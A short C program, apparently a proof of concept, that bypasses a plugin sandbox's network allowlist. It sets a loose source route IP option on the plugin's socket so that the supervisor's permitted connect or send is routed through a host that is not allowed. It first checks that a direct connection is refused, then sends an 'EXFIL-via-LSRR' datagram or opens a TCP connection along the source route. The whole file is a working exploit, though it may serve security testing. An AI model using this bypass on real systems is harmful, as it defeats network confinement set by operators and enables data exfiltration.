/* network.http bypass: a loose source route (IP_OPTIONS, no capability
 * needed) set on the plugin's socket makes the supervisor's own connect/send
 * (allowed destination) route the packets to FIRSTHOP, a host not on the
 * allowlist. usage: lsrr tcp|udp ALLOWED_IP PORT FIRSTHOP */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc < 5) return 2;
	int udp = strcmp(argv[1], "udp") == 0;
	struct sockaddr_in dst = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
	inet_pton(AF_INET, argv[2], &dst.sin_addr);
	struct in_addr hop; inet_pton(AF_INET, argv[4], &hop);
	/* direct attempt first: the allowlist must refuse FIRSTHOP itself */
	int d = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	struct sockaddr_in evil = dst; evil.sin_addr = hop;
	fcntl(d, F_SETFL, O_NONBLOCK);
	int r = udp ? (int)sendto(d, "x", 1, 0, (void *)&evil, sizeof(evil))
	            : connect(d, (void *)&evil, sizeof(evil));
	printf("direct %s to %s: %s\n", udp ? "sendto" : "connect", argv[4],
	       r < 0 && errno != EINPROGRESS ? strerror(errno) : "went out");
	close(d);
	int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	unsigned char opt[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4};
	memcpy(opt + 4, &hop, 4);
	if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, sizeof(opt)) < 0) { perror("IP_OPTIONS"); return 1; }
	fcntl(s, F_SETFL, O_NONBLOCK);
	if (udp)
		r = (int)sendto(s, "EXFIL-via-LSRR", 14, 0, (void *)&dst, sizeof(dst));
	else
		r = connect(s, (void *)&dst, sizeof(dst));
	printf("source-routed %s to allowed %s:%s: %s\n", udp ? "sendto" : "connect", argv[2], argv[3],
	       r < 0 && errno != EINPROGRESS ? strerror(errno) : "accepted (EINPROGRESS/sent)");
	sleep(1);
	return 0;
}
